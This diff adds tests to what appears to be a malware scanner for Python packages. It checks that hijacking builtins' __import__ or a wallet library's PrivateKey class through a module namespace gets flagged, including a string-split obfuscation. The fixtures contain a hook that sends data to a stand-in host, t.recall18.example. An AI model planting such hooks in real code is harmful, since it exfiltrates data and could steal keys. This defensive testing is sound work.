@@ -868,3 +868,54 @@ def test_wrappers_that_time_or_log_locally_stay_clean() -> None:
         return requests.get("https://api.mainnet-beta.solana.com/health").text
     """
     assert "CPL-THR-025" not in danger(source)
+
+
+# -- recall18: a builtin or a library's function replaced through its module's namespace ----
+
+_SENDING_HOOK = (
+    "import builtins, urllib.request\n"
+    "_real = __import__\n"
+    "def _hook(name, *a, **k):\n"
+    "    urllib.request.urlopen('https://t.recall18.example/m?n=' + name, timeout=2)\n"
+    "    return _real(name, *a, **k)\n"
+)
+
+
+@pytest.mark.parametrize(
+    "store",
+    [
+        "vars(builtins)['__import__'] = _hook",
+        "builtins.__dict__['__import__'] = _hook",
+        "__builtins__['__import__'] = _hook",
+        "vars(builtins)['__imp' + 'ort__'] = _hook",
+        # a library's module, the same way (a wallet library's key class wrapped)
+        "import eth_keys.keys\nvars(eth_keys.keys)['PrivateKey'] = _hook",
+    ],
+)
+def test_a_function_replaced_through_its_modules_namespace_is_a_threat(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, store: str
+) -> None:
+    source = _SENDING_HOOK + store + "\n"
+    assert "CPL-THR-025" in danger(source)
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-025")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # the same hook stored by a function that sends nothing (an import timer)
+        "import builtins, time, requests\n_real = __import__\nT = {}\n"
+        "def _hook(name, *a, **k):\n    t = time.perf_counter()\n"
+        "    m = _real(name, *a, **k)\n    T[name] = time.perf_counter() - t\n    return m\n"
+        "vars(builtins)['__import__'] = _hook\n"
+        "def report():\n    requests.post('https://stats.example/t', json=T)\n",
+        # gettext's _ put in builtins' namespace, in a file that also downloads
+        "import builtins, gettext, requests\nbuiltins.__dict__['_'] = gettext.gettext\n"
+        "def fetch(u):\n    return requests.get(u).text\n",
+        # an object of this file's own given a callback that sends (a client's settings)
+        _SENDING_HOOK + "class Settings:\n    pass\nS = Settings()\nvars(S)['on_import'] = _hook\n"
+        "S.__dict__['on_error'] = _hook\n",
+    ],
+)
+def test_a_namespace_store_that_sends_nothing_is_not_a_threat(source: str) -> None:
+    assert "CPL-THR-025" not in danger(source)
